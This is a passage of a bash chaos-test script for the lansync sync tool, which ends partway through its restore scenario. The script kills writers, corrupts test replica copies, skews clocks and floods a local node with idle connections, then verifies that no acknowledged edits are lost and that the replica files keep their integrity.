#!/usr/bin/env bash
# lansync's chaos suite (issue 12): writers killed with SIGKILL, data directories restored from a
# backup or copied, skewed clocks, a node flooded with idle strangers, an unprivileged user, damaged
# replica files, and a lossy, partitioned LAN, all against the release binary. Docs/OPERATIONS.md,
# "Chaos suite".
#
#   scripts/chaos.sh                     the short profile (under ~4 minutes on 2 cores; for CI)
#   scripts/chaos.sh --long              the long profile (more rounds, longer partitions: ~12 min)
#   scripts/chaos.sh --only kill9,clock  only these scenarios
#   scripts/chaos.sh --keep              keep the work directory (data directories, logs) at the end
#
# Scenarios: kill9 restore clock strangers unprivileged damage partition member attacker. Each prints one line of
# figures with PASS, FAIL or SKIP (and, on failure, why); the last line is "N passed, N failed",
# and the exit status is non-zero if any scenario failed. CHAOS_SEED=N repeats a run's random
# choices; CHAOS_BINARY=PATH tests that lansync binary instead of building one (with the test
# tools beside it, or at CHAOS_DEBUG_BINARY=PATH).
#
# Safety: test traffic goes only to 127.0.0.0/8 and into network namespaces this script creates
# (scripts/lab.sh with LAB_PREFIX=lsc<PID>); no avahi-daemon is ever started in this machine's own
# namespace. Every loop is bounded in count and time. On exit or Ctrl-C every process it started,
# the lab's namespaces and its temporary directory go.
set -uo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD

ALL=(kill9 restore clock strangers unprivileged damage partition member attacker)
PROFILE=short KEEP=0 ONLY=""
while [ $# -gt 0 ]; do
    case $1 in
        --short) PROFILE=short ;;
        --long) PROFILE=long ;;
        --keep) KEEP=1 ;;
        --only) shift; ONLY=${1:-} ;;
        --only=*) ONLY=${1#--only=} ;;
        -h|--help) awk 'NR > 1 && /^#/ { sub(/^# ?/, ""); print; next } NR > 1 { exit }' "$0"; exit 0 ;;
        *) echo "chaos.sh: unknown option $1 (try --help)" >&2; exit 64 ;;
    esac
    shift
done
SELECTED=("${ALL[@]}")
if [ -n "$ONLY" ]; then
    IFS=, read -r -a SELECTED <<<"$ONLY"
    for s in "${SELECTED[@]}"; do
        [[ " ${ALL[*]} " == *" $s "* ]] || { echo "chaos.sh: no scenario '$s' (there are: ${ALL[*]})" >&2; exit 64; }
    done
fi

# --- Profiles -----------------------------------------------------------------------------------
if [ "$PROFILE" = short ]; then
    K9_ROUNDS=30          # writers killed
    RESTORE_ROUNDS=2      # times each restore variant runs
    CLOCK_OFFSETS=(+1d +2y -12h)
    STRANGER_COUNT=200    # idle connections held open
    TLS_STRANGER_COUNT=40 # more that complete TLS without a certificate (a joiner's way in)
    DAMAGE_FLIPS=3        # extra copies with random bytes flipped
    PART_CYCLES=2         # cut/heal cycles
    PART_CUT=5            # seconds host 3 stays cut off
    PART_LOSS=10          # % of frames dropped at each host's bridge port
    PART_LOSS_AFTER=8     # seconds the loss stays on after the heal
    PART_TIMEOUT=90       # seconds to converge after a heal
    MEMBER_WRITERS=300000 # made-up writers a member's covers name
else
    K9_ROUNDS=300
    RESTORE_ROUNDS=8
    CLOCK_OFFSETS=(+10m +1d +3d +2y +30y -12h -1y)
    STRANGER_COUNT=500
    TLS_STRANGER_COUNT=100
    DAMAGE_FLIPS=40
    PART_CYCLES=5
    PART_CUT=60
    PART_LOSS=10
    PART_LOSS_AFTER=30
    PART_TIMEOUT=180
    MEMBER_WRITERS=1200000
fi
SEED=${CHAOS_SEED:-$(( $(date +%s) % 100000 ))}
RANDOM=$SEED

# --- Packages and the release binary ------------------------------------------------------------
source scripts/lib/packages.sh
source scripts/lib/release.sh
NEED=(libsqlite3-dev libavahi-client-dev sqlite3 faketime)
command -v python3 >/dev/null || NEED+=(python3)
[ "$(id -u)" = 0 ] && NEED+=(avahi-daemon avahi-utils dbus iproute2 nftables util-linux)
ensure_packages "${NEED[@]}"
if [ -n "${CHAOS_BINARY:-}" ]; then
    L=$(realpath "$CHAOS_BINARY")
    DBG=${CHAOS_DEBUG_BINARY:-$(dirname "$L")/lansync-debug}
    echo "==> testing $L (CHAOS_BINARY; not building)"
else
    echo "==> building the release binary"
    BUILD_LOG=$(mktemp /tmp/lansync-chaos-build-XXXXXX)
    built=0
    for attempt in 1 2 3; do   # a source file edited during the build fails it: try again
        if "${LANSYNC_RELEASE_BUILD[@]}" >"$BUILD_LOG" 2>&1 && "${LANSYNC_RELEASE_DEBUG_BUILD[@]}" >>"$BUILD_LOG" 2>&1; then
            built=1
            break
        fi
        grep -q "modified during the build" "$BUILD_LOG" || break
        sleep 5
    done
    if [ "$built" = 0 ]; then
        grep -E "error:" "$BUILD_LOG" | head -10 >&2
        rm -f "$BUILD_LOG"
        echo "chaos.sh: the build failed" >&2
        exit 1
    fi
    rm -f "$BUILD_LOG"
    L=$ROOT/$LANSYNC_RELEASE_BINARY
    DBG=$ROOT/$LANSYNC_RELEASE_DEBUG_BINARY
fi
[ -x "$L" ] || { echo "chaos.sh: no $L after the build" >&2; exit 1; }

# --- Work directory, processes, clean-up --------------------------------------------------------
W=$(mktemp -d /tmp/lansync-chaos-XXXXXX)
export LANSYNC_RUNTIME_DIR=$W/runtime   # the writer markers (Docs/MERGE.md, "Rolled-back replicas")
mkdir -p "$LANSYNC_RUNTIME_DIR"
export LAB_PREFIX=lsc$$ LAB_DIR=$W/lab   # this run's own lab: runs side by side do not meet
LAB_UP=0
declare -A NODE_PID=() NODE_LOG=()
BG_PIDS=()      # other background processes (strangers), killed by pid
CUR_GROUP=""    # the process group of the writer being killed (setsid), killed by group id

cleanup() {
    local status=$?
    trap - EXIT INT TERM
    local p
    for p in "${NODE_PID[@]}" "${BG_PIDS[@]}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
    [ -n "$CUR_GROUP" ] && kill -9 -- "-$CUR_GROUP" 2>/dev/null
    sleep 0.3
    for p in "${NODE_PID[@]}" "${BG_PIDS[@]}"; do [ -n "$p" ] && kill -9 "$p" 2>/dev/null; done
    [ "$LAB_UP" = 1 ] && scripts/lab.sh down >/dev/null 2>&1
    if [ "$KEEP" = 1 ]; then echo "kept the work directory $W"; else rm -rf "$W"; fi
    exit "$status"
}
trap cleanup EXIT
trap 'echo; echo "chaos.sh: interrupted, cleaning up"; exit 130' INT TERM

# --- Helpers ------------------------------------------------------------------------------------
cat >"$W/chaos.py" <<'PY'
import calendar, json, os, random, resource, socket, ssl, subprocess, sys, time

L = os.environ["LANSYNC"]

def lansync(*args):
    return subprocess.run([L, *args], capture_output=True, text=True, timeout=60)

def parse_value(token):
    try:
        return json.loads(token)
    except ValueError:
        return token

def acks(log, *dirs):
    """Every acknowledged edit of LOG (lines KIND<TAB>ITEM<TAB>FIELD<TAB>TOKEN) is on every DIR:
    a set as the shown value or one of the field's conflict values, a list addition in the list."""
    lines = [l.rstrip("\n").split("\t") for l in open(log)] if os.path.exists(log) else []
    missing, examples = 0, []
    for d in dirs:
        listed, conflicts = lansync("list", "--dir", d, "--deleted", "--json"), lansync("conflicts", "--dir", d, "--json")
        if listed.returncode or conflicts.returncode:
            print(f"{len(lines)} {len(lines)}\n{d}: list/conflicts failed: {(listed.stderr + conflicts.stderr).strip()}")
            return
        items = {i["id"]: i["fields"] for i in json.loads(listed.stdout)}
        siblings = {(c["id"], c["field"]): c["values"] for c in json.loads(conflicts.stdout)}
        for kind, item, field, token in lines:
            value, fields = parse_value(token), items.get(item, {})
            shown, others = fields.get(field), siblings.get((item, field), [])
            if kind == "set":
                ok = shown == value or value in others
            else:
                ok = (isinstance(shown, list) and value in shown) or any(isinstance(o, list) and value in o for o in others)
            if not ok:
                missing += 1
                if len(examples) < 3:
                    examples.append(f"{os.path.basename(d)}: {kind} {item} {field}={token} missing (shows {json.dumps(shown)})")
    print(f"{missing} {len(lines)}")
    for e in examples:
        print(e)

def import_file(path, prefix, n):
    with open(path, "w") as f:
        for j in range(int(n)):
            f.write(json.dumps({"id": f"{prefix}-{j}", "type": "imp", "fields": {"n": j, "pad": "x" * 40}}) + "\n")

def atomic(d, n, *prefixes):
    """Each killed import left all N of its items or none: prints the prefixes that did not."""
    items = [i["id"] for i in json.loads(lansync("list", "--dir", d, "--deleted", "--json").stdout)]
    for p in prefixes:
        k = sum(1 for i in items if i.startswith(p + "-"))
        if k not in (0, int(n)):
            print(f"{p}:{k}")

def field(key):
    print(json.load(sys.stdin).get(key))

def equal_lists(*dirs):
    # export: the items themselves (list --json adds each item's sync state, which is per node).
    outs = [lansync("export", "--dir", d).stdout for d in dirs]
    print("same" if all(o == outs[0] for o in outs) else "different")

def lead_hours(d, item, fld, token):
    """How far ahead of now (hours) the write of TOKEN to ITEM.FIELD is stamped."""
    for h in json.loads(lansync("history", "--dir", d, item, fld, "--json").stdout):
        if h["write"].get("set") == parse_value(token):
            t = calendar.timegm(time.strptime(h["time"][:19], "%Y-%m-%dT%H:%M:%S"))
            print(f"{(t - time.time()) / 3600:.2f}")
            return
    print("none")

def inversions(d, item, fld, *chain):
    """How many writes of the causal CHAIN of values carry an earlier timestamp than the one before."""
    stamps = {}
    for h in json.loads(lansync("history", "--dir", d, item, fld, "--json").stdout):
        stamps.setdefault(json.dumps(h["write"].get("set")), h["time"])
    times = [stamps.get(json.dumps(parse_value(t))) for t in chain]
    print(sum(1 for a, b in zip(times, times[1:]) if a and b and b < a))

def tls_strangers(port, n, hold, ready, stop):
    """Holds N TLS connections to 127.0.0.1:PORT that complete the handshake without a client
    certificate (as a joining machine does) and then say nothing; one the node closes comes back a
    second later. Writes to READY how many handshakes completed, runs until STOP exists (at most
    HOLD seconds), then writes to READY.done how many the node closed."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    def dial():
        try:
            raw = socket.create_connection(("127.0.0.1", int(port)), timeout=3)
            s = ctx.wrap_socket(raw)
            s.setblocking(False)
            return s
        except (OSError, ssl.SSLError):
            return None
    n = int(n)
    socks = [dial() for _ in range(n)]
    with open(ready + ".tmp", "w") as f:
        f.write(f"{sum(1 for s in socks if s)}\n")
    os.rename(ready + ".tmp", ready)
    closed = 0
    back = [0.0] * n
    end = time.time() + float(hold)
    while time.time() < end and not os.path.exists(stop):
        now = time.time()
        for k in range(n):
            s = socks[k]
            if s is not None:
                try:
                    if s.recv(1) != b"":
                        continue
                except (ssl.SSLWantReadError, BlockingIOError, InterruptedError):
                    continue
                except (OSError, ssl.SSLError):
                    pass
                s.close()
                socks[k], back[k] = None, now + 1.0
                closed += 1
            elif now >= back[k]:
                socks[k] = dial()
        time.sleep(0.05)
    for s in socks:
        if s is not None:
            s.close()
    with open(ready + ".done", "w") as f:
        f.write(f"{closed}\n")

def strangers(port, n, hold, ready, stop):
    """Holds N idle TCP connections to 127.0.0.1:PORT from 21 loopback addresses (127.0.0.1 and
    127.0.0.10-29), saying nothing; one the node closes comes back a second later. Writes how many
    it opened to READY, runs until STOP exists (at most HOLD seconds), then writes to READY.done
    how many the node closed and how many came back, and closes them all."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, int(n) + 64)), hard))
    sources = ["127.0.0.1"] + [f"127.0.0.{k}" for k in range(10, 30)]
    def dial(k):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((sources[k % len(sources)], 0))
            s.connect_ex(("127.0.0.1", int(port)))
        except OSError:
            s.close()
            return None
        return s
    n = int(n)
    socks = [dial(k) for k in range(n)]
    back = [0.0] * n
    opened = sum(1 for s in socks if s)
    with open(ready + ".tmp", "w") as f:
        f.write(f"{opened} {n - opened}\n")
    os.rename(ready + ".tmp", ready)
    closed = reconnects = 0
    end = time.time() + float(hold)
    while time.time() < end and not os.path.exists(stop):
        now = time.time()
        for k in range(n):
            s = socks[k]
            if s is not None:
                try:
                    if s.recv(1) != b"":
                        continue
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    pass
                s.close()
                socks[k], back[k] = None, now + 1.0
                closed += 1
            elif now >= back[k]:
                socks[k] = dial(k)
                reconnects += socks[k] is not None
        time.sleep(0.05)
    for s in socks:
        if s is not None:
            s.close()
    with open(ready + ".done", "w") as f:
        f.write(f"{closed} {reconnects}\n")

LOGICAL = {  # damage SQLite cannot see: rows that are well-formed SQLite but not lansync's
    "state-garbage": "UPDATE field SET state = randomblob(48) WHERE id IN (SELECT id FROM field ORDER BY (id * 7919) % 1009 LIMIT 5)",
    "state-text": "UPDATE field SET state = 'not a state' WHERE id IN (SELECT id FROM field ORDER BY (id * 7919) % 1009 LIMIT 5)",
    "state-empty": "UPDATE field SET state = x'' WHERE id IN (SELECT id FROM field ORDER BY (id * 7919) % 1009 LIMIT 5)",
    "conflict-flip": "UPDATE field SET conflict = 1 - conflict WHERE id IN (SELECT id FROM field ORDER BY (id * 7919) % 1009 LIMIT 5)",
    "history-garbage": "UPDATE history SET write = 'not json' WHERE seq IN (SELECT seq FROM history ORDER BY (seq * 7919) % 1009 LIMIT 5)",
    "meta-garbage": "UPDATE meta SET value = 'garbage' WHERE key IN ('clock', 'writer_id', 'node_id')",
    "orphan-rows": "DELETE FROM item WHERE id IN (SELECT id FROM item ORDER BY (id * 7919) % 1009 LIMIT 5)",
    "foreign-types": "UPDATE node SET counter = 'many'; UPDATE item SET type = x'ff00', deleted = 'no' "
                     "WHERE id IN (SELECT id FROM item ORDER BY (id * 7919) % 1009 LIMIT 5); "
                     "UPDATE history SET timestamp = 'soon' WHERE seq IN (SELECT seq FROM history ORDER BY (seq * 7919) % 1009 LIMIT 5)",
    # NULLs where the schema says NOT NULL (as a damaged record header can give): the constraint
    # is taken out of the schema text first.
    "nulls": "PRAGMA writable_schema = ON; "
             "UPDATE sqlite_master SET sql = replace(sql, 'NOT NULL', '') WHERE type = 'table'; "
             "PRAGMA writable_schema = OFF",
}
NULLS_AFTER = ("UPDATE field SET state = NULL WHERE id IN (SELECT id FROM field ORDER BY (id * 7919) % 1009 LIMIT 5); "
               "UPDATE history SET write = NULL WHERE seq IN (SELECT seq FROM history ORDER BY (seq * 7919) % 1009 LIMIT 5); "
               "UPDATE item SET type = NULL WHERE id IN (SELECT id FROM item ORDER BY (id * 7919) % 1009 LIMIT 5)")

def damage(mode, path, seed):
    """Damages a copy of a replica file in place."""
    if mode in LOGICAL:
        import sqlite3
        db = sqlite3.connect(path, isolation_level=None)
        db.executescript(LOGICAL[mode])
        db.close()
        if mode == "nulls":
            db = sqlite3.connect(path, isolation_level=None)
            db.executescript(NULLS_AFTER)
            db.close()
        return
    rnd = random.Random(int(seed))
    data = bytearray(open(path, "rb").read())
    page = int.from_bytes(data[16:18], "big") or 4096
    if page == 1:
        page = 65536
    pages = len(data) // page
    if mode == "header":              # the SQLite header's magic and page size
        data[0:18] = bytes(rnd.randrange(256) for _ in range(18))
    elif mode == "schema":            # page 1 past the header: the schema table
        data[100:page] = bytes(page - 100)
    elif mode == "zero-page":         # a page in the middle: a b-tree page of some table or index
        p = pages // 2
        data[p * page:(p + 1) * page] = bytes(page)
    elif mode == "zero-pages":        # every page from the second on: only the header survives
        data[page:] = bytes(len(data) - page)
    elif mode == "truncate":          # the second half is gone
        del data[len(data) // 2:]
    elif mode.startswith("flip"):     # 64 random bytes past page 1 changed
        for _ in range(64):
            i = rnd.randrange(page, len(data))
            data[i] ^= 1 + rnd.randrange(255)
    else:
        sys.exit(f"unknown damage {mode}")
    open(path, "wb").write(bytes(data))

def bad_json(path):
    """Nothing if PATH holds one JSON value; else the line where it breaks."""
    text = open(path).read()
    try:
        json.loads(text)
    except ValueError as e:
        line = text.splitlines()[e.lineno - 1] if e.lineno <= len(text.splitlines()) else ""
        print(f"line {e.lineno}: {line[max(0, e.colno - 60):e.colno + 20]}")

cmd, args = sys.argv[1], sys.argv[2:]
{"acks": acks, "import-file": import_file, "atomic": atomic, "field": field, "equal-lists": equal_lists,
 "lead-hours": lead_hours, "inversions": inversions, "bad-json": bad_json, "strangers": strangers, "tls-strangers": tls_strangers, "damage": damage}[cmd.replace("_", "-")](*args)
PY
export LANSYNC=$L
py() { python3 "$W/chaos.py" "$@"; }

# 1812 -> 1,812
commas() { local n=$1 out=""; while [ ${#n} -gt 3 ]; do out=",${n: -3}$out"; n=${n:0:${#n}-3}; done; echo "$n$out"; }
now_ms() { date +%s%3N; }
secs() { awk -v ms="$1" 'BEGIN { printf "%.1f", ms / 1000 }'; }
rand_ms() { echo $(( $1 + RANDOM % ($2 - $1 + 1) )); }  # MIN MAX
sleep_ms() { sleep "$(awk -v ms="$1" 'BEGIN { printf "%.3f", ms / 1000 }')"; }

free_port() {
    python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# A cluster secret in DIR/cluster.pem and an initialised replica DIR/NAME for each NAME.
make_cluster() {
    local dir=$1; shift
    mkdir -p "$dir"
    "$L" cluster create "$dir/cluster.pem" >/dev/null || return 1
    for n in "$@"; do "$L" init --dir "$dir/$n" --cluster "$dir/cluster.pem" --name "$n" >/dev/null || return 1; done
}

# start_node KEY DIR LISTEN [ARGS...]: a node on loopback (no mDNS); waits until it listens.
# With LAB_HOST=I set, the node runs in lab host I (and uses mDNS).
start_node() {
    local key=$1 dir=$2 listen=$3; shift 3
    local log=$W/logs/$key.log
    mkdir -p "$W/logs"
    : >"$log"
    if [ -n "${LAB_HOST:-}" ]; then
        scripts/lab.sh exec "$LAB_HOST" "$L" node --dir "$dir" --listen "$listen" "$@" >>"$log" 2>&1 </dev/null &
    else
        "${RUN_AS[@]}" "$L" node --dir "$dir" --listen "$listen" --no-mdns --no-api "$@" >>"$log" 2>&1 </dev/null &
    fi
    NODE_PID[$key]=$! NODE_LOG[$key]=$log
    local _
    for _ in $(seq 1 200); do
        grep -q "listening on" "$log" && return 0
        kill -0 "${NODE_PID[$key]}" 2>/dev/null || break
        sleep 0.05
    done
    return 1
}

# kill9 PID: SIGKILL, without the shell's "Killed" notice; waits (at most 5 s) until it is gone.
kill9() {
    local pid=$1 _
    disown "$pid" 2>/dev/null
    kill -9 "$pid" 2>/dev/null
    for _ in $(seq 1 100); do kill -0 "$pid" 2>/dev/null || return 0; sleep 0.05; done
}

# stop_node KEY [TERM|KILL]: stops it (SIGTERM by default, SIGKILL after 10 s); exit status in NODE_RC.
stop_node() {
    local key=$1 sig=${2:-TERM} pid=${NODE_PID[$1]:-} _
    NODE_RC=0
    [ -n "$pid" ] || return 0
    NODE_PID[$key]=""
    if [ "$sig" = KILL ]; then kill9 "$pid"; NODE_RC=137; return 0; fi
    kill -TERM "$pid" 2>/dev/null
    for _ in $(seq 1 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    if kill -0 "$pid" 2>/dev/null; then kill9 "$pid"; NODE_RC=137; return 0; fi
    wait "$pid" 2>/dev/null
    NODE_RC=$?
}

stop_all_nodes() { local k; for k in "${!NODE_PID[@]}"; do [ -n "${NODE_PID[$k]}" ] && stop_node "$k"; done; }

digest() { "$L" status --dir "$1" --json 2>/dev/null | py field digest 2>/dev/null; }

# wait_converge TIMEOUT_S DIR...: until their digests agree; prints the milliseconds it took, or
# returns 1 after TIMEOUT_S.
wait_converge() {
    local timeout=$1; shift
    local t0 d first same
    t0=$(now_ms)
    while [ $(( $(now_ms) - t0 )) -lt $(( timeout * 1000 )) ]; do
        first="" same=1
        for d in "$@"; do
            local g; g=$(digest "$d")
            [ -z "$g" ] && { same=0; break; }
            [ -z "$first" ] && first=$g
            [ "$g" != "$first" ] && { same=0; break; }
        done
        [ "$same" = 1 ] && { echo $(( $(now_ms) - t0 )); return 0; }
        sleep 0.2
    done
    return 1
}

# Edits that record themselves in $ACKS when the command acknowledged them (exit 0).
# TOKEN is what the command line gets: a JSON value, or plain text for a string.
ack_set() {  # DIR ITEM FIELD TOKEN [set|add]
    local verb=${5:-set} args
    if [ "$verb" = add ]; then args=(add --dir "$1" --id "$2" "$3=$4"); else args=(set --dir "$1" "$2" "$3=$4"); fi
    if "$L" "${args[@]}" >/dev/null 2>>"$EDIT_ERR"; then
        printf 'set\t%s\t%s\t%s\n' "$2" "$3" "$4" >>"$ACKS"
    else
        fail "$verb $2 $3=$4 on $(basename "$1") refused: $(tail -1 "$EDIT_ERR")"; return 1
    fi
}
ack_elem() {  # DIR ITEM FIELD ELEM
    if "$L" set --dir "$1" "$2" "$3+=$4" >/dev/null 2>>"$EDIT_ERR"; then
        printf 'elem\t%s\t%s\t%s\n' "$2" "$3" "$4" >>"$ACKS"
    else
        fail "set $2 $3+=$4 on $(basename "$1") refused: $(tail -1 "$EDIT_ERR")"; return 1
    fi
}

# check_acks DIR...: adds a reason for every acknowledged edit missing; sets MISSING and ACKED.
check_acks() {
    local out
    out=$(py acks "$ACKS" "$@")
    read -r MISSING ACKED <<<"$(head -1 <<<"$out")"
    [ "${MISSING:-1}" = 0 ] || fail "$MISSING acknowledged edit(s) missing: $(tail -n +2 <<<"$out" | paste -sd ';' -)"
}

# Dots named twice: a (writer, counter) in the history with two different write timestamps.
reused_dots() {
    sqlite3 -readonly "$1/replica.sqlite" \
        'SELECT count(*) FROM (SELECT node, counter FROM history GROUP BY node, counter HAVING count(DISTINCT timestamp) > 1)' 2>&1
}
integrity() { sqlite3 -readonly "$1/replica.sqlite" 'PRAGMA integrity_check' 2>&1 | head -3 | paste -sd ' ' -; }

# check_files DIR...: integrity_check ok and no reused dot on each; sets REUSED.
check_files() {
    local d r i
    REUSED=0 INTEGRITY=ok
    for d in "$@"; do
        i=$(integrity "$d")
        [ "$i" = ok ] || { INTEGRITY=bad; fail "$(basename "$d"): integrity_check: $i"; }
        r=$(reused_dots "$d")
        if [[ $r =~ ^[0-9]+$ ]]; then
            REUSED=$((REUSED + r))
            [ "$r" = 0 ] || fail "$(basename "$d"): $r dot(s) name two writes"
        else
            fail "$(basename "$d"): history query failed: $r"
        fi
    done
}

sync_with() {  # DIR PORT [TIMEOUT]: one lansync sync; stderr to $EDIT_ERR
    "$L" sync --dir "$1" --peer "127.0.0.1:$2" --timeout "${3:-30}" >/dev/null 2>>"$EDIT_ERR"
}

# --- Results ------------------------------------------------------------------------------------
PASSED=0 FAILED=0 SKIPPED=()
REASONS=() FIG="" SKIP_WHY=""
fail() { REASONS+=("$*"); }

run_scenario() {
    local name=$1 t0
    REASONS=() FIG="$name:" SKIP_WHY="" RUN_AS=()
    MISSING=0 ACKED=0 REUSED=0 INTEGRITY=unchecked
    t0=$(now_ms)
    "sc_$name"
    stop_all_nodes
    local took; took=$(secs $(( $(now_ms) - t0 )))
    if [ -n "$SKIP_WHY" ]; then
        SKIPPED+=("$name")
        printf 'SKIP  %s: %s\n' "$name" "$SKIP_WHY"
    elif [ ${#REASONS[@]} = 0 ]; then
        PASSED=$((PASSED + 1))
        printf 'PASS  %s (%s s)\n' "$FIG" "$took"
    else
        FAILED=$((FAILED + 1))
        printf 'FAIL  %s (%s s)\n' "$FIG" "$took"
        local r n=0
        for r in "${REASONS[@]}"; do
            n=$((n + 1)); [ $n -gt 6 ] && { echo "      - ... and $(( ${#REASONS[@]} - 6 )) more"; break; }
            echo "      - ${r:0:220}"
        done
    fi
}

# --- 1. kill9 -----------------------------------------------------------------------------------
# Writers (a loop of 'add'/'set'/'set +=' commands, or one 'import' of 2,000 lines) and the
# directory's node, killed with SIGKILL at random moments, round after round. Every edit a command
# acknowledged must be there afterwards, on the directory and on the peer it syncs with; the file
# must pass integrity_check; no dot may name two writes; a killed import is all or nothing.
sc_kill9() {
    local S=$W/kill9
    make_cluster "$S" a d || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    local pa pd
    pa=$(free_port); pd=$(free_port)
    start_node a "$S/a" "127.0.0.1:$pa" || { fail "node A did not start: $(tail -1 "${NODE_LOG[a]}")"; return; }
    cat >"$S/writer.sh" <<'SH'
#!/usr/bin/env bash
# writer.sh LANSYNC DIR ROUND ACKS ERRORS: at most 200 edits, each recorded once acknowledged.
L=$1 D=$2 R=$3 ACK=$4 ERR=$5
for i in $(seq 1 200); do
    case $((i % 3)) in
        1) "$L" add --dir "$D" --id "k$R-$i" --type k "v=$i" >/dev/null 2>>"$ERR" && printf 'set\tk%s-%s\tv\t%s\n' "$R" "$i" "$i" >>"$ACK" ;;
        2) "$L" set --dir "$D" "k$R-$((i - 1))" "w=w$i" 2>>"$ERR" && printf 'set\tk%s-%s\tw\tw%s\n' "$R" "$((i - 1))" "$i" >>"$ACK" ;;
        0) "$L" set --dir "$D" "list-$R" "tags+=e$i" 2>>"$ERR" && printf 'elem\tlist-%s\ttags\te%s\n' "$R" "$i" >>"$ACK" ;;
    esac || echo "exit $? on edit $i of round $R" >>"$ERR"
done
SH
    local r imports=0 killed_imports=() loops=0 node_rounds=0
    for r in $(seq 1 "$K9_ROUNDS"); do
        local with_node=$((r % 2)) kind=loop
        [ $((r % 3)) = 0 ] && kind=import
        if [ "$with_node" = 1 ]; then
            node_rounds=$((node_rounds + 1))
            start_node d "$S/d" "127.0.0.1:$pd" --peer "127.0.0.1:$pa" || fail "round $r: node D did not start after a SIGKILL: $(tail -1 "${NODE_LOG[d]}")"
        fi
        local delay
        if [ "$kind" = import ]; then
            imports=$((imports + 1))
            py import-file "$S/in-$r.jsonl" "i$r" 2000
            setsid bash -c '"$0" import --dir "$1" "$2" >/dev/null 2>>"$3" && echo ok >"$2.ok"' "$L" "$S/d" "$S/in-$r.jsonl" "$EDIT_ERR" &
            delay=$(rand_ms 10 400)
        else
            loops=$((loops + 1))
            "$L" add --dir "$S/d" --id "list-$r" --type list 'tags=[]' >/dev/null 2>>"$EDIT_ERR" || fail "round $r: the list item could not be added"
            setsid bash "$S/writer.sh" "$L" "$S/d" "$r" "$ACKS" "$EDIT_ERR" >/dev/null &
            delay=$(rand_ms 50 1500)
        fi
        local wpid=$!
        CUR_GROUP=$wpid
        sleep_ms "$delay"
        disown "$wpid" 2>/dev/null
        kill -9 -- "-$wpid" 2>/dev/null || kill -9 "$wpid" 2>/dev/null
        [ "$with_node" = 1 ] && [ $(( RANDOM % 2 )) = 0 ] && sleep_ms "$(rand_ms 0 300)"
        [ "$with_node" = 1 ] && stop_node d KILL
        local _; for _ in $(seq 1 100); do kill -0 "$wpid" 2>/dev/null || break; sleep 0.05; done
        CUR_GROUP=""
        if [ "$kind" = import ]; then
            if [ -e "$S/in-$r.jsonl.ok" ]; then
                awk -v r="$r" '{ printf "set\ti%s-%d\tn\t%d\n", r, NR - 1, NR - 1 }' "$S/in-$r.jsonl" >>"$ACKS"
            else
                killed_imports+=("i$r")
            fi
        fi
    done
    # Every command that failed without being killed was refused: there should be none.
    local refused
    refused=$(grep -c '^exit ' "$EDIT_ERR")
    [ "$refused" = 0 ] || fail "$refused edit(s) refused after a SIGKILL: $(grep -v '^exit ' "$EDIT_ERR" | head -2 | paste -sd ';' -)"
    sync_with "$S/d" "$pa" 60 || fail "the final sync of D with A failed: $(tail -1 "$EDIT_ERR")"
    wait_converge 30 "$S/a" "$S/d" >/dev/null || fail "A and D did not converge within 30 s"
    stop_node a
    [ "$NODE_RC" = 0 ] || fail "node A exited with $NODE_RC on SIGTERM"
    check_acks "$S/d" "$S/a"
    check_files "$S/d" "$S/a"
    local torn=""
    [ ${#killed_imports[@]} -gt 0 ] && torn=$(py atomic "$S/d" 2000 "${killed_imports[@]}" | paste -sd ' ' -)
    [ -z "$torn" ] || fail "killed imports left part of their items: $torn"
    FIG="kill9: $K9_ROUNDS rounds ($loops edit loops, $imports imports of which ${#killed_imports[@]} killed, node killed in $node_rounds), $(commas "$ACKED") acknowledged edits, $MISSING missing, $refused refused, integrity $INTEGRITY, $REUSED reused dots"
}

# --- 2. restore ---------------------------------------------------------------------------------
# Issue 12's scenario: B syncs with A (a running node); B's directory is copied; B edits and syncs;
# the copy is put back; B edits offline (or not); B syncs. And a fork: B's directory copied to B2
# and used there too. A and B (and B2) must end up identical with every acknowledged edit.
restore_once() {  # S VARIANT(offline|quiet|fork)
    local S=$1 variant=$2
    make_cluster "$S" a b || { fail "$variant: init failed"; return; }
    ACKS=$S/acks; : >"$ACKS"
    local pa; pa=$(free_port)
    start_node a "$S/a" "127.0.0.1:$pa" || { fail "$variant: node A did not start"; return; }
    local i
    ack_set "$S/b" item base 1 add || fail "$variant: add failed"
    for i in $(seq 1 $(rand_ms 1 5)); do ack_set "$S/b" item "f$i" "$i"; ack_elem "$S/b" item tags "t$i"; done
    sync_with "$S/b" "$pa" || fail "$variant: the first sync failed: $(tail -1 "$EDIT_ERR")"
    rm -rf "$S/backup"; cp -a "$S/b" "$S/backup"
    if [ "$variant" = fork ]; then
        rm -rf "$S/b2"; cp -a "$S/b" "$S/b2"
        "$L" set --dir "$S/b2" item from-copy=1 2>"$S/note" >/dev/null && printf 'set\titem\tfrom-copy\t1\n' >>"$ACKS" || fail "fork: the copy's first edit failed: $(cat "$S/note")"
        grep -q "copied or moved" "$S/note" || fail "fork: the copy did not say it takes a new identity (stderr: $(head -1 "$S/note"))"
        ack_set "$S/b" item from-original 1
        ack_elem "$S/b" item tags orig; ack_elem "$S/b2" item tags copy
        ack_set "$S/b" item shared orig; ack_set "$S/b2" item shared copy
        for d in b b2 b; do sync_with "$S/$d" "$pa" || fail "fork: sync of $d failed: $(tail -1 "$EDIT_ERR")"; done
        local id1 id2
        id1=$("$L" status --dir "$S/b" --json | py field node_id) id2=$("$L" status --dir "$S/b2" --json | py field node_id)
        [ "$id1" != "$id2" ] || fail "fork: B and its copy share node id $id1"
        wait_converge 20 "$S/a" "$S/b" "$S/b2" >/dev/null || fail "fork: A, B and B2 did not converge"
        [ "$(py equal-lists "$S/a" "$S/b" "$S/b2")" = same ] || fail "fork: the replicas list different items"
